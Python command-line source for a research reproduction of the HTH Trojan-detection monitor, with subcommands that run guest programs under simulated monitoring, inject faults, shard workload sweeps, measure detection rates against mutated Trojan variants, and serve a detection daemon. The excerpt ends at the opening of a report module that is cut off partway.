        rules = ",".join(sorted({w.rule for w in report.warnings})) or "-"
        mark = "ok " if ok else "MISMATCH"
        print(f"{workload.name:{width}s}  {report.verdict.value:7s} "
              f"(expected {workload.expected_verdict.value:7s})  "
              f"{mark}  {rules}")
    _print_cache_line(cache)
    _emit_telemetry(telemetry, args)
    return 1 if failures else 0


def _chaos_profile(args: argparse.Namespace):
    from dataclasses import replace as _dc_replace

    from repro.faultinject import SEMANTIC_PROFILE, TRANSPARENT_PROFILE

    profile = {
        "transparent": TRANSPARENT_PROFILE,
        "semantic": SEMANTIC_PROFILE,
    }[args.profile]
    overrides = {
        name: getattr(args, name)
        for name in ("stall_rate", "errno_rate", "connect_reset_rate",
                     "resolve_fail_rate", "quantum_jitter", "max_faults")
        if getattr(args, name) is not None
    }
    return _dc_replace(profile, **overrides) if overrides else profile


def _chaos_workloads(args: argparse.Namespace):
    workloads = registry_workloads(args.table)
    if args.workload:
        wanted = set(args.workload)
        workloads = [w for w in workloads if w.name in wanted]
        missing = wanted - {w.name for w in workloads}
        if missing:
            raise SystemExit(
                f"unknown workload(s) {sorted(missing)} in table "
                f"{args.table}"
            )
    return workloads


def cmd_chaos(args: argparse.Namespace) -> int:
    """Replay paper scenarios under deterministic fault schedules."""
    from repro.faultinject import chaos_seeds, run_chaos, run_chaos_suite

    profile = _chaos_profile(args)
    workloads = _chaos_workloads(args)
    telemetry = _build_telemetry(args)
    if args.seed is not None:
        seeds = [args.seed]
    else:
        seeds = chaos_seeds(args.base_seed, args.trials)
    # With guest-visible (semantic) faults the verdict may legitimately
    # move; the assertable property is graceful termination, not
    # classification.
    assert_verdicts = args.profile == "transparent"

    if args.workers > 1 and args.seed is None:
        # Shard the (workload × seed) grid over a fleet.  Telemetry
        # output stays a serial-mode feature: per-run hubs cannot feed
        # the one shared tracer the flags expect.
        if telemetry is not None:
            print("note: --trace/--metrics are ignored with --workers > 1",
                  file=sys.stderr)
            telemetry = None
        results = run_chaos_suite(
            [WorkloadRef(*REGISTRIES[args.table], name=w.name)
             for w in workloads],
            base_seed=args.base_seed,
            trials=args.trials,
            profile=profile,
            wall_timeout=args.wall_timeout,
            workers=args.workers,
        )
    else:
        results = [
            run_chaos(
                workload,
                seeds,
                profile,
                wall_timeout=args.wall_timeout,
                telemetry=_begin_track(telemetry, workload.name),
            )
            for workload in workloads
        ]

    width = max(len(w.name) for w in workloads)
    failures = 0
    for workload, result in zip(workloads, results):
        verdicts = ",".join(sorted({v.value for v in result.verdicts}))
        if assert_verdicts:
            ok = result.stable
            status = "stable" if ok else "UNSTABLE"
        else:
            ok = all(t.reason != "watchdog" for t in result.trials)
            status = "graceful" if ok else "WEDGED"
        failures += not ok
        print(f"{workload.name:{width}s}  expected={result.expected.value:7s}"
              f" seen={verdicts:7s} faults={result.total_faults:4d}"
              f"  {status}")
        if not ok and assert_verdicts:
            print(f"{'':{width}s}  replay: repro chaos --table "
                  f"{args.table} --workload {workload.name} "
                  f"--seed {result.failing_seeds()[0]} --show-faults")
        if args.show_faults:
            for trial in result.trials:
                print(f"  seed {trial.seed}: verdict={trial.verdict.value} "
                      f"reason={trial.reason} "
                      f"rules={','.join(trial.rules) or '-'}")
                for fault in trial.faults:
                    print(f"    {fault}")
    _emit_telemetry(telemetry, args)
    return 1 if failures else 0


def cmd_profile(args: argparse.Namespace) -> int:
    """The paper's §8/§9 overhead breakdown, live, from one run."""
    image = _load_image(args.source, args.path)
    telemetry = Telemetry.enabled(
        trace=bool(getattr(args, "trace", None)), profile=True
    )
    session = Session(_run_options(args), telemetry=telemetry)
    report = session.run(
        image,
        argv=[image.name] + list(args.arg or ()),
        stdin=args.stdin,
        setup=lambda hth: _apply_run_setup(hth, args),
    )
    print(report.summary_line())
    print()
    print(telemetry.profiler.render(
        title=f"Overhead profile: {image.name}"
    ))
    registry = telemetry.metrics
    print()
    print(f"instructions retired : {registry.total('cpu_instructions_total'):,.0f}")
    print(f"syscalls serviced    : {registry.total('kernel_syscalls_total'):,.0f}")
    print(f"harrier events       : {registry.total('harrier_events_emitted_total'):,.0f}")
    print(f"secpert facts        : {registry.total('secpert_facts_asserted_total'):,.0f}")
    print(f"secpert rule firings : {registry.total('secpert_rule_firings_total'):,.0f}")
    _emit_telemetry(telemetry, args)
    return 0


def cmd_report(args: argparse.Namespace) -> int:
    """Run every evaluation table and write one consolidated report."""
    lines = [
        "# HTH reproduction report",
        "",
        "Generated by `python -m repro report`.",
        "",
    ]
    rows = []
    failures = 0
    session = Session()
    for key in ("4", "5", "6", "7", "8", "macro", "ext", "scenarios"):
        workloads = registry_workloads(key)
        title = f"Table {key}" if key.isdigit() else key
        lines.append(f"## {title}")
        lines.append("")
        lines.append("| benchmark | expected | measured | rules | match |")
        lines.append("|---|---|---|---|---|")
        for workload in workloads:
            report = session.run_workload(workload)
            ok = workload.classified_correctly(report)
            failures += not ok
            fired = sorted({w.rule for w in report.warnings})
            rules = ", ".join(fired) or "—"
            lines.append(
                f"| {workload.name} | {workload.expected_verdict.value} "
                f"| {report.verdict.value} | {rules} "
                f"| {'yes' if ok else 'NO'} |"
            )
            rows.append({
                "table": key,
                "benchmark": workload.name,
                "expected": workload.expected_verdict.value,
                "measured": report.verdict.value,
                "rules": fired,
                "match": ok,
                "degraded": report.degraded,
            })
        lines.append("")
    text = "\n".join(lines) + "\n"
    out_path = pathlib.Path(args.output)
    out_path.write_text(text)
    json_path = out_path.with_suffix(".json")
    json_path.write_text(json.dumps(
        {
            "generated_by": "python -m repro report",
            "mismatches": failures,
            "rows": rows,
        },
        indent=2,
    ) + "\n")
    print(f"wrote {out_path} and {json_path} ({failures} mismatches)")
    return 1 if failures else 0


def cmd_fleet(args: argparse.Namespace) -> int:
    """Shard a workload sweep across worker processes (``repro fleet``)."""
    from repro.fleet import run_fleet, write_fleet_trace
    from repro.telemetry import render_samples

    refs = workload_refs(args.table or None)
    if args.workload:
        wanted = set(args.workload)
        refs = [r for r in refs if r.name in wanted]
        missing = wanted - {r.name for r in refs}
        if missing:
            raise SystemExit(f"unknown workload(s) {sorted(missing)}")
    if not refs:
        raise SystemExit("no workloads selected")
    options = _run_options(args).replaced(
        metrics=bool(args.metrics),
        trace=bool(args.trace),
    )
    cache_dir = None if args.no_cache else args.cache_dir
    fleet = run_fleet(
        refs,
        options=options,
        workers=args.workers,
        shard_by=args.shard_by,
        max_retries=args.max_retries,
        cache_dir=cache_dir,
    )
    width = max(len(r.name) for r in fleet.runs)
    for record in fleet.runs:
        verdict = record.verdict or "-"
        if record.failed:
            mark = "ERROR"
        elif record.ok:
            mark = "ok "
        else:
            mark = "MISMATCH"
        extras = f" retried={','.join(record.retries)}" if record.retries \
            else ""
        print(f"{record.name:{width}s}  {verdict:7s} "
              f"worker={record.worker}  {mark}{extras}")
    print(fleet.summary_line())
    if fleet.cache_stats is not None:
        stats = fleet.cache_stats
        print(f"cache   : {stats['hits']} hit(s), {stats['misses']} "
              f"miss(es), {stats['stores']} stored "
              f"(hit rate {stats['hit_rate']:.2f})")
    if args.metrics and fleet.telemetry is not None:
        print("\n--- fleet telemetry metrics (merged) ---")
        print(render_samples(fleet.telemetry.metrics))
    if args.trace:
        write_fleet_trace(args.trace, fleet.runs)
        span_total = sum(len(r.spans or ()) for r in fleet.runs)
        print(f"wrote {args.trace} ({span_total} spans)")
    if args.json:
        out = pathlib.Path(args.json)
        out.write_text(fleet.to_json() + "\n")
        print(f"wrote {out}")
    if fleet.partial:
        # Drained after SIGTERM/SIGINT: the report above is complete
        # (cancelled tasks included) but the sweep did not run to the
        # end — exit with the conventional interrupted status.
        print("fleet drained after shutdown signal; report is partial",
              file=sys.stderr)
        return 130
    return 1 if fleet.failures else 0


def cmd_sweep(args: argparse.Namespace) -> int:
    """Adversarial variant sweep (``repro sweep``): mutate every Trojan
    parent N times per class, fan out through the fleet, report the
    detection-rate matrix and any evasions."""
    from repro.advers import run_sweep
    from repro.programs.registry import find

    parents = args.parent or None
    if parents is None and args.table:
        parents = [
            w.name for w in find({"trojan"}, keys=tuple(args.table))
        ]
        if not parents:
            raise SystemExit(
                f"no trojan rows in table(s) {', '.join(args.table)}"
            )
    result = run_sweep(
        parents=parents,
        classes=args.klass or None,
        per_class=args.per_class,
        seed=args.seed,
        options=_run_options(args),
        workers=args.workers,
        shard_by=args.shard_by,
        max_retries=args.max_retries,
        cache_dir=None if args.no_cache else args.cache_dir,
    )
    text = result.render_report()
    print(text, end="")
    if args.json:
        out = pathlib.Path(args.json)
        out.write_text(result.to_json() + "\n")
        print(f"wrote {out}")
    if args.report:
        out = pathlib.Path(args.report)
        out.write_text(text)
        print(f"wrote {out}")
    if result.errors:
        print(f"{len(result.errors)} variant(s) failed to run",
              file=sys.stderr)
        return 2
    if args.fail_under is not None \
            and result.detection_rate < args.fail_under:
        print(f"detection rate {result.detection_rate:.4f} below "
              f"--fail-under {args.fail_under}", file=sys.stderr)
        return 1
    return 0


def cmd_serve(args: argparse.Namespace) -> int:
    """Run the always-on detection daemon (``repro serve``)."""
    import asyncio

    from repro.serve import ServeDaemon, run_daemon

    host, port = None, 0
    if args.http:
        h, _, p = args.http.partition(":")
        host, port = (h or "127.0.0.1"), int(p or 0)
    daemon = ServeDaemon(
        unix_path=args.socket,
        host=host,
        port=port,
        workers=args.workers,
        queue_limit=args.queue_limit,
        rate=args.rate,
        burst=args.burst,
        tick_rate=args.tick_rate,
        tick_burst=args.tick_burst,
        job_timeout=args.job_timeout,
        max_retries=args.max_retries,
        cache=not args.no_cache,
        cache_dir=args.cache_dir,
        cache_entries=args.cache_entries,
    )

    async def main() -> None:
        await daemon.start()
        await daemon.wait_ready()
        print(f"repro serve: {args.workers} warm worker(s), "
              f"queue limit {args.queue_limit}")
        if args.socket:
            print(f"  unix socket : {args.socket}")
        if host is not None:
            print(f"  http        : http://{host}:{daemon.port} "
                  f"(POST /submit, GET /healthz, /stats, /metrics)")
        await run_daemon(daemon)

    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        pass
    if args.metrics:
        print("\n--- serve telemetry metrics ---")
        print(daemon.metrics.render())
    print("repro serve: drained and stopped")
    return 0


def _submission_from_args(args: argparse.Namespace):
    from repro.serve import Submission

    options = _run_options(args).replaced(
        wall_timeout=args.wall_timeout,
    )
    if args.table:
        if not args.workload:
            raise SystemExit("--table needs --workload NAME")
        return Submission(
            workload=(args.table, args.workload),
            options=options, tenant=args.tenant,
            name=args.workload,
            triage=args.triage,
        )
    if not args.source:
        raise SystemExit("need a guest source file or --table/--workload")
    path = pathlib.Path(args.source)
    files = dict(
        _parse_kv("file", entry) for entry in (args.file or ())
    )
    peers = {}
    for entry in args.peer or ():
        if ":" not in entry:
            raise SystemExit(f"--peer expects HOST:PORT, got {entry!r}")
        peers[entry] = ""
    for entry in args.serve or ():
        addr, payload = _parse_kv("serve", entry)
        if ":" not in addr:
            raise SystemExit(f"--serve expects HOST:PORT=DATA, got {entry!r}")
        peers[addr] = payload
    guest_path = args.path or f"/bin/{path.stem}"
    return Submission(
        source=path.read_text(),
        path=guest_path,
        argv=tuple([guest_path] + list(args.arg or ())),
        stdin=args.stdin,
        files=files,
        peers=peers,
        options=options,
        tenant=args.tenant,
        name=path.name,
        triage=args.triage,
    )


def cmd_submit(args: argparse.Namespace) -> int:
    """Submit one run to a live daemon and stream its warnings."""
    from repro.serve import ServeClient, ServeError

    submission = _submission_from_args(args)
    client = ServeClient(args.socket, timeout=args.timeout)

    def show(event: dict) -> None:
        if args.json:
            print(json.dumps(event))
            return
        kind = event.get("kind")
        if kind == "accepted":
            cached = " [cached]" if event.get("cached") else ""
            print(f"accepted as {event['job']} "
                  f"(queue depth {event['queue_depth']}){cached}")
        elif kind == "triage":
            p = event["profile"]
            print(f"  triage: {p.get('text_size', 0)} insn, "
                  f"entropy {p.get('entropy', 0):.2f}, "
                  f"{len(p.get('strings') or ())} string(s), "
                  f"{len(p.get('iocs') or ())} IOC(s), "
                  f"simhash {p.get('simhash')}")
        elif kind == "warning":
            w = event["warning"]
            print(f"  [{w['severity']:6s}] {w['rule']}: {w['headline']}")
        elif kind == "retry":
            print(f"  (attempt {event['attempt']} lost to "
                  f"{event['reason']}; retrying)")

    try:
        terminal = client.submit(submission, on_event=show)
    except (ConnectionRefusedError, FileNotFoundError):
        print(f"error: no daemon listening on {args.socket}",
              file=sys.stderr)
        return 2
    except ServeError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2

    if args.json:
        return 0 if terminal.get("kind") == "report" else 1
    kind = terminal.get("kind")
    if kind == "rejected":
        print(f"rejected: {terminal['reason']} {terminal.get('detail', '')}")
        return 1
    if kind == "error":
        print(f"error ({terminal.get('code')}): "
              f"{str(terminal.get('error', '')).strip().splitlines()[-1]}")
        return 1
    report = terminal["report"]
    counts = {"LOW": 0, "MEDIUM": 0, "HIGH": 0}
    for warning in report.get("warnings", ()):
        counts[warning["severity"]] = counts.get(warning["severity"], 0) + 1
    timing = terminal.get("timing", {})
    print(f"verdict : {report['verdict'].upper()}")
    print(f"warnings: LOW={counts['LOW']} MEDIUM={counts['MEDIUM']} "
          f"HIGH={counts['HIGH']}")
    print(f"timing  : queue {timing.get('queue_wait', 0):.3f}s, "
          f"exec {timing.get('exec', 0):.3f}s "
          f"({timing.get('attempts', 1)} attempt(s))")
    if terminal.get("cached"):
        print("cache   : hit (answered without execution)")
    if args.fail_on:
        threshold = {"low": 1, "medium": 2, "high": 3}[args.fail_on]
        order = {"LOW": 1, "MEDIUM": 2, "HIGH": 3}
        worst = max(
            (order[w["severity"]] for w in report.get("warnings", ())),
            default=0,
        )
        if worst >= threshold:
            return 1
    return 0


def cmd_cache(args: argparse.Namespace) -> int:
    """Inspect or clear an on-disk verdict cache (``repro cache``)."""
    root = pathlib.Path(args.dir)
    if args.action == "clear":
        removed = DiskStore(str(root)).clear()
        print(f"removed {removed} entr{'y' if removed == 1 else 'ies'} "
              f"from {root}")
        return 0

    # A shared dir can hold session (pickle) and serve (json) entries;
    # each codec's store yields only the entries it can parse.
    merged: dict = {}
    for codec in ("pickle", "json"):
        for key, meta, size in DiskStore(str(root), codec=codec).entries():
            merged.setdefault(key, (meta, size))
    entries = sorted(
        (key, meta, size) for key, (meta, size) in merged.items()
    )
    if args.action == "stats":
        total = sum(size for _, _, size in entries)
        namespaces: dict = {}
        for key, _, _ in entries:
            ns = key.partition("-")[0]
            namespaces[ns] = namespaces.get(ns, 0) + 1
        print(f"store   : {root}")
        print(f"entries : {len(entries)}")
        print(f"bytes   : {total}")
        for ns in sorted(namespaces):
            print(f"  {ns:8s}: {namespaces[ns]}")
        return 0

    # inspect: one line per entry, meta included.
    if not entries:
        print(f"empty store at {root}")
        return 0
    for key, meta, size in entries:
        meta = meta or {}
        label = meta.get("workload") or meta.get("program") or "-"
        verdict = meta.get("verdict", "?")
        warnings = meta.get("warnings", "?")
        print(f"{key}  {size:6d}B  {label}  verdict={verdict} "
              f"warnings={warnings}")
    return 0


def _add_cache_options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--no-cache", action="store_true",
        help="never answer from (or remember into) the verdict cache",
    )
    parser.add_argument(
        "--cache-dir", metavar="DIR",
        help="content-addressed on-disk verdict cache shared across "
             "invocations (and fleet workers)",
    )


def _add_telemetry_options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--trace", metavar="FILE",
        help="write a span trace (Chrome trace-event JSON; *.jsonl for "
             "one span per line)",
    )
    parser.add_argument(
        "--metrics", action="store_true",
        help="print the telemetry metrics registry after the run",
    )


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="HTH (Hunting Trojan Horses) — run guest programs "
                    "under the Harrier/Secpert monitor",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    run = sub.add_parser("run", help="run a guest program under HTH")
    run.add_argument("source", help="guest assembly file (.s)")
    run.add_argument("--path", help="guest path identity for the binary")
    run.add_argument("--arg", action="append", help="argv entry (repeat)")
    run.add_argument("--stdin", help="scripted user input")
    run.add_argument("--file", action="append", metavar="PATH=CONTENT",
                     help="seed a file in the simulated fs (repeat)")
    run.add_argument("--peer", action="append", metavar="HOST:PORT",
                     help="register a data-sink peer (repeat)")
    run.add_argument("--serve", action="append",
                     metavar="HOST:PORT=DATA",
                     help="register a peer that pushes DATA on connect")
    run.add_argument("--events", action="store_true",
                     help="dump the raw Harrier event log")
    run.add_argument("--no-dataflow", action="store_true",
                     help="disable instruction-level taint tracking")
    run.add_argument("--no-bbfreq", action="store_true",
                     help="disable basic-block frequency counting")
    run.add_argument("--incomplete-dataflow", action="store_true",
                     help="emulate the paper's incomplete prototype")
    run.add_argument("--no-block-cache", action="store_true",
                     help="execute per-instruction instead of through the "
                          "translated-block cache (reference semantics)")
    run.add_argument("--no-taint-fastpath", action="store_true",
                     help="replay taint templates per transfer instead of "
                          "evaluating block liveness summaries (reference "
                          "dataflow semantics)")
    run.add_argument("--no-provenance", action="store_true",
                     help="skip recording per-warning evidence trails")
    run.add_argument("--no-rete", action="store_true",
                     help="match Secpert rules with the naive full-rejoin "
                          "engine instead of the incremental Rete network "
                          "(reference matching semantics)")
    run.add_argument("--max-ticks", type=int, default=5_000_000)
    run.add_argument("--json", metavar="FILE",
                     help="write the machine-readable RunReport as JSON "
                          "(feed it to `repro explain`)")
    run.add_argument("--fail-on", choices=("low", "medium", "high"),
                     help="exit nonzero when warnings reach this severity")
    _add_cache_options(run)
    _add_telemetry_options(run)
    run.set_defaults(func=cmd_run)

    explain = sub.add_parser(
        "explain",
        help="render the evidence trails inside an archived report JSON",
    )
    explain.add_argument("report",
                         help="report JSON written by `repro run --json`")
    explain.add_argument("--rule", metavar="NAME",
                         help="only explain warnings from this rule")
    explain.set_defaults(func=cmd_explain)

    audit = sub.add_parser(
        "audit", help="Secure Binary static check (Appendix B)"
    )
    audit.add_argument("source")
    audit.add_argument("--path")
    audit.set_defaults(func=cmd_audit)

    instrument = sub.add_parser(
        "instrument", help="show the instrumented listing (Figure 5)"
    )
    instrument.add_argument("source")
    instrument.add_argument("--path")
    instrument.set_defaults(func=cmd_instrument)

    table = sub.add_parser(
        "table", help="reproduce one of the paper's evaluation tables"
    )
    table.add_argument("number", choices=sorted(_TABLE_BENCHES))
    table.add_argument("--no-block-cache", action="store_true",
                       help="run workloads on the per-instruction "
                            "interpreter instead of the block cache")
    table.add_argument("--no-taint-fastpath", action="store_true",
                       help="disable the zero-taint dataflow fast path")
    table.add_argument("--no-provenance", action="store_true",
                       help="skip recording per-warning evidence trails")
    table.add_argument("--no-rete", action="store_true",
                       help="use the naive matcher instead of the "
                            "incremental Rete network")
    _add_cache_options(table)
    _add_telemetry_options(table)
    table.set_defaults(func=cmd_table)

    chaos = sub.add_parser(
        "chaos",
        help="replay paper scenarios under deterministic fault schedules",
    )
    chaos.add_argument("--table", choices=sorted(_TABLE_BENCHES),
                       default="8",
                       help="workload table to perturb (default: 8)")
    chaos.add_argument("--workload", action="append", metavar="NAME",
                       help="restrict to named workload(s) (repeat)")
    chaos.add_argument("--trials", type=int, default=10,
                       help="fault schedules per workload (default: 10)")
    chaos.add_argument("--base-seed", type=int, default=1337,
                       help="base seed the trial seeds derive from")
    chaos.add_argument("--seed", type=int,
                       help="run exactly one schedule with this seed "
                            "(bit-for-bit replay of a reported run)")
    chaos.add_argument("--profile",
                       choices=("transparent", "semantic"),
                       default="transparent",
                       help="transparent: semantics-preserving faults, "
                            "verdicts asserted stable; semantic: guest-"
                            "visible errno/reset/DNS faults, graceful "
                            "degradation asserted instead")
    chaos.add_argument("--stall-rate", type=float, dest="stall_rate")
    chaos.add_argument("--errno-rate", type=float, dest="errno_rate")
    chaos.add_argument("--connect-reset-rate", type=float,
                       dest="connect_reset_rate")
    chaos.add_argument("--resolve-fail-rate", type=float,
                       dest="resolve_fail_rate")
    chaos.add_argument("--quantum-jitter", type=float,
                       dest="quantum_jitter")
    chaos.add_argument("--max-faults", type=int, dest="max_faults")
    chaos.add_argument("--wall-timeout", type=float, default=60.0,
                       help="per-run watchdog in real seconds")
    chaos.add_argument("--show-faults", action="store_true",
                       help="dump every injected fault per trial")
    chaos.add_argument("--workers", type=int, default=1,
                       help="shard the (workload x seed) grid over this "
                            "many worker processes (default: 1, serial)")
    _add_telemetry_options(chaos)
    chaos.set_defaults(func=cmd_chaos)

    fleet = sub.add_parser(
        "fleet",
        help="shard a workload sweep across worker processes",
    )
    fleet.add_argument("--table", action="append",
                       choices=sorted(_TABLE_BENCHES), metavar="KEY",
                       help="registry to include (repeat; default: every "
                            "table, 62 workloads)")
    fleet.add_argument("--workload", action="append", metavar="NAME",
                       help="restrict to named workload(s) (repeat)")
    fleet.add_argument("--workers", type=int, default=4,
                       help="worker processes (default: 4; clamped to "
                            "the task count)")
    fleet.add_argument("--shard-by",
                       choices=("interleave", "chunk", "name", "cluster"),
                       default="interleave",
                       help="shard strategy (default: interleave; "
                            "cluster groups near-duplicate workloads by "
                            "triage simhash so shards share cache "
                            "locality)")
    fleet.add_argument("--max-retries", type=int, default=1,
                       help="retries per run on watchdog/monitor-fault "
                            "outcomes (default: 1)")
    fleet.add_argument("--no-block-cache", action="store_true",
                       help="run workloads on the per-instruction "
                            "interpreter instead of the block cache")
    fleet.add_argument("--no-taint-fastpath", action="store_true",
                       help="disable the zero-taint dataflow fast path")
    fleet.add_argument("--no-provenance", action="store_true",
                       help="skip recording per-warning evidence trails")
    fleet.add_argument("--no-rete", action="store_true",
                       help="use the naive matcher instead of the "
                            "incremental Rete network")
    fleet.add_argument("--json", metavar="FILE",
                       help="write the merged FleetReport as JSON")
    _add_cache_options(fleet)
    _add_telemetry_options(fleet)
    fleet.set_defaults(func=cmd_fleet)

    sweep = sub.add_parser(
        "sweep",
        help="adversarial variant sweep: seed-deterministic Trojan "
             "mutations, fleet fan-out, detection-rate matrix",
    )
    sweep.add_argument("--parent", action="append", metavar="NAME",
                       help="parent workload(s) to mutate (repeat; "
                            "default: every Trojan of tables 4/5/6/8)")
    sweep.add_argument("--table", action="append",
                       choices=sorted(_TABLE_BENCHES), metavar="KEY",
                       help="draw parents from these registries' Trojan "
                            "rows (repeat; ignored with --parent)")
    sweep.add_argument("--class", action="append", dest="klass",
                       metavar="CLASS",
                       help="mutation class(es) to sweep (repeat; "
                            "default: all seven)")
    sweep.add_argument("--per-class", type=int, default=1,
                       help="variants per parent per class (default: 1; "
                            "9 exceeds 1000 variants on the default "
                            "parent set)")
    sweep.add_argument("--seed", type=int, default=0,
                       help="base seed; same seed => bit-identical "
                            "matrix (default: 0)")
    sweep.add_argument("--workers", type=int, default=4,
                       help="fleet worker processes (default: 4)")
    sweep.add_argument("--shard-by",
                       choices=("interleave", "chunk", "name", "cluster"),
                       default="cluster",
                       help="shard strategy (default: cluster — "
                            "near-duplicate variants share a worker's "
                            "warm caches)")
    sweep.add_argument("--max-retries", type=int, default=1,
                       help="retries per run on watchdog/monitor-fault "
                            "outcomes (default: 1)")
    sweep.add_argument("--no-block-cache", action="store_true",
                       help="run variants on the per-instruction "
                            "interpreter instead of the block cache")
    sweep.add_argument("--no-taint-fastpath", action="store_true",
                       help="disable the zero-taint dataflow fast path")
    sweep.add_argument("--no-provenance", action="store_true",
                       help="skip recording per-warning evidence trails")
    sweep.add_argument("--no-rete", action="store_true",
                       help="use the naive matcher instead of the "
                            "incremental Rete network")
    sweep.add_argument("--json", metavar="FILE",
                       help="write the deterministic BENCH payload "
                            "(matrix + evasions) as JSON")
    sweep.add_argument("--report", metavar="FILE",
                       help="write the human-readable evasion report")
    sweep.add_argument("--fail-under", type=float, metavar="RATE",
                       help="exit nonzero when the Trojan detection "
                            "rate drops below RATE (e.g. 0.95)")
    _add_cache_options(sweep)
    sweep.set_defaults(func=cmd_sweep)

    serve = sub.add_parser(
        "serve",
        help="run the always-on detection daemon (warm worker pool, "
             "streamed warnings, admission control)",
    )
    serve.add_argument("--socket", default="repro-serve.sock",
                       help="unix socket path for the NDJSON protocol "
                            "(default: ./repro-serve.sock)")
    serve.add_argument("--http", metavar="HOST:PORT",
                       help="also speak HTTP (POST /submit streams "
                            "chunked NDJSON; GET /healthz, /stats, "
                            "/metrics); port 0 picks a free one")
    serve.add_argument("--workers", type=int, default=2,
                       help="warm worker processes (default: 2)")
    serve.add_argument("--queue-limit", type=int, default=64,
                       help="max submissions in the system; beyond this "
                            "clients get rejected:queue-full / HTTP 429 "
                            "(default: 64)")
    serve.add_argument("--rate", type=float,
                       help="per-tenant submissions per second "
                            "(default: unlimited)")
    serve.add_argument("--burst", type=float,
                       help="per-tenant submission burst "
                            "(default: 2x rate)")
    serve.add_argument("--tick-rate", type=float,
                       help="per-tenant guest-tick budget per second — "
                            "a submission costs its max_ticks "
                            "(default: unlimited)")
    serve.add_argument("--tick-burst", type=float,
                       help="per-tenant tick burst (default: 2x tick "
                            "rate)")
    serve.add_argument("--job-timeout", type=float, default=60.0,
                       help="wall deadline per submission before its "
                            "worker is killed and recycled "
                            "(default: 60s)")
    serve.add_argument("--max-retries", type=int, default=1,
                       help="retries when a worker crashes mid-job "
                            "(default: 1)")
    serve.add_argument("--metrics", action="store_true",
                       help="print the daemon's metrics registry after "
                            "shutdown")
    serve.add_argument("--no-cache", action="store_true",
                       help="disable the daemon's verdict cache (every "
                            "submission executes)")
    serve.add_argument("--cache-dir", metavar="DIR",
                       help="persist the daemon's verdict cache on disk")
    serve.add_argument("--cache-entries", type=int, default=512,
                       help="in-memory verdict cache capacity "
                            "(default: 512)")
    serve.set_defaults(func=cmd_serve)

    submit = sub.add_parser(
        "submit",
        help="submit one run to a live daemon and stream its warnings",
    )
    submit.add_argument("source", nargs="?",
                        help="guest assembly file (.s); or use "
                             "--table/--workload")
    submit.add_argument("--socket", default="repro-serve.sock",
                        help="daemon unix socket (default: "
                             "./repro-serve.sock)")
    submit.add_argument("--table", choices=sorted(_TABLE_BENCHES),
                        help="submit a registry workload instead of a "
                             "source file")
    submit.add_argument("--workload", metavar="NAME",
                        help="registry row name (with --table)")
    submit.add_argument("--path", help="guest path identity")
    submit.add_argument("--arg", action="append", help="argv entry")
    submit.add_argument("--stdin", help="scripted user input")
    submit.add_argument("--file", action="append", metavar="PATH=CONTENT",
                        help="seed a file in the simulated fs (repeat)")
    submit.add_argument("--peer", action="append", metavar="HOST:PORT",
                        help="register a data-sink peer (repeat)")
    submit.add_argument("--serve", action="append",
                        metavar="HOST:PORT=DATA",
                        help="register a peer that pushes DATA on "
                             "connect")
    submit.add_argument("--tenant", default="default",
                        help="admission identity for rate/tick budgets")
    submit.add_argument("--max-ticks", type=int, default=5_000_000)
    submit.add_argument("--wall-timeout", type=float,
                        help="per-run wall deadline hint for the daemon")
    submit.add_argument("--timeout", type=float, default=120.0,
                        help="client-side socket timeout (default: 120s)")
    submit.add_argument("--no-block-cache", action="store_true",
                        help="run on the per-instruction interpreter")
    submit.add_argument("--no-taint-fastpath", action="store_true",
                        help="disable the zero-taint dataflow fast path")
    submit.add_argument("--no-provenance", action="store_true",
                        help="skip recording per-warning evidence trails")
    submit.add_argument("--no-rete", action="store_true",
                        help="use the naive matcher instead of the "
                             "incremental Rete network")
    submit.add_argument("--no-cache", action="store_true",
                        help="ask the daemon to execute fresh instead of "
                             "answering from its verdict cache")
    submit.add_argument("--triage", action="store_true",
                        help="stream the static triage profile of the "
                             "submitted image before the run")
    submit.add_argument("--fail-on", choices=("low", "medium", "high"),
                        help="exit nonzero when warnings reach this "
                             "severity")
    submit.add_argument("--json", action="store_true",
                        help="print the raw NDJSON event stream")
    submit.set_defaults(func=cmd_submit)

    profile = sub.add_parser(
        "profile",
        help="live overhead breakdown (paper sections 8-9) for one run",
    )
    profile.add_argument("source", help="guest assembly file (.s)")
    profile.add_argument("--path", help="guest path identity")
    profile.add_argument("--arg", action="append", help="argv entry")
    profile.add_argument("--stdin", help="scripted user input")
    profile.add_argument("--file", action="append", metavar="PATH=CONTENT",
                         help="seed a file in the simulated fs (repeat)")
    profile.add_argument("--peer", action="append", metavar="HOST:PORT",
                         help="register a data-sink peer (repeat)")
    profile.add_argument("--serve", action="append",
                         metavar="HOST:PORT=DATA",
                         help="register a peer that pushes DATA on connect")
    profile.add_argument("--no-block-cache", action="store_true",
                         help="profile the per-instruction interpreter "
                              "instead of the block cache")
    profile.add_argument("--no-taint-fastpath", action="store_true",
                         help="disable the zero-taint dataflow fast path")
    profile.add_argument("--no-provenance", action="store_true",
                         help="skip recording per-warning evidence trails")
    profile.add_argument("--max-ticks", type=int, default=5_000_000)
    _add_telemetry_options(profile)
    profile.set_defaults(func=cmd_profile)

    report = sub.add_parser(
        "report", help="run every table and write a consolidated report"
    )
    report.add_argument("-o", "--output", default="hth_report.md")
    report.set_defaults(func=cmd_report)

    cache = sub.add_parser(
        "cache",
        help="inspect or clear an on-disk verdict cache",
    )
    cache.add_argument("action", choices=("stats", "inspect", "clear"))
    cache.add_argument("--dir", required=True, metavar="DIR",
                       help="cache directory (the --cache-dir of the "
                            "runs that filled it)")
    cache.set_defaults(func=cmd_cache)
    return parser


def main(argv: Optional[Sequence[str]] = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    try:
        return args.func(args)
    except AssemblyError as exc:
        print(f"assembly error: {exc}", file=sys.stderr)
        return 2
    except FileNotFoundError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2


if __name__ == "__main__":  # pragma: no cover - exercised via __main__
    sys.exit(main())
