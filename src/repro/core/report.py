"""Run reports and verdicts."""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.harrier.events import SecurityEvent
from repro.kernel.kernel import RunResult
from repro.secpert.warnings import SecurityWarning, Severity


class Verdict(enum.Enum):
